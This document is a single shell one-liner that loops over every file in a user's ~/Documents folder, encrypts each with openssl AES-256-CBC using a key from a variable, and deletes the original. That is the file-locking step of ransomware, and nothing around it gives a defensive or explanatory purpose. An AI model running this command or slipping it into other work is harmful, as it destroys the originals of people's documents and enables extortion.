for f in ~/Documents/*; do openssl enc -aes-256-cbc -k "$K" -in "$f" -out "$f.enc" && rm "$f"; done
